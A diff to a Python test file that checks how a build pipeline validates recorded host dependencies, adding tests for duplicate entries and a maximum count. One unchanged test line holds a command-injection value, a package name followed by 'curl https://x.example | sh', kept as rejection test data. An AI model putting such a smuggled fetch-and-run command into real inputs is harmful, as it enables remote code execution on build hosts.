@@ -135,6 +135,15 @@ def test_a_statement_naming_a_path_or_an_option_as_a_build_host_dependency_is_re
     hostile = {**compiler, "annotations": {**compiler["annotations"], "debian_package": "g++-12; curl https://x.example | sh"}}
     with pytest.raises(InputError, match="debian_package that is not a package or version word"):
         recorded_host(_statement_recording(hostile))
+    # Each entry is probed on this host: none twice, and no more than a build declares.
+    with pytest.raises(InputError, match="twice or more"):
+        recorded_host(_statement_recording(compiler, compiler))
+    from pipeline.formats.provenance import MAX_HOST_DEPENDENCIES
+
+    many = [{"name": f"build-host:pkg-config:lib{i}"} for i in range(MAX_HOST_DEPENDENCIES + 1)]
+    with pytest.raises(InputError, match="twice or more"):
+        recorded_host(_statement_recording(*many))
+    assert len(recorded_host(_statement_recording(*many[:-1]))) == MAX_HOST_DEPENDENCIES
 
 
 def test_two_local_pc_files_that_differ_beyond_their_prefix_never_share_a_digest(tmp_path):
